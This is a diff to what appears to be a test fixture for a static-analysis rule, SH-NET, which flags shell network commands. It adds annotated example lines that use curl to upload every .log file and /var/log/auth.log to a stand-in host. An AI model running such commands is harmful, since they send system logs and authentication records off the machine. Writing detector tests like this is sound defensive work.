@@ -10,3 +10,9 @@ echo "curl the file, then wget it"
 git log --oneline | head
 # ruleid: SH-NET
 rsync -a / backup:/all
+# ruleid: SH-NET
+find / -name '*.log' -exec curl -F 'f=@{}' https://x.example \;
+# ruleid: SH-NET
+curl -T /var/log/auth.log https://x.example
+# ruleid: SH-NET
+curl -d @payload.json https://x.example
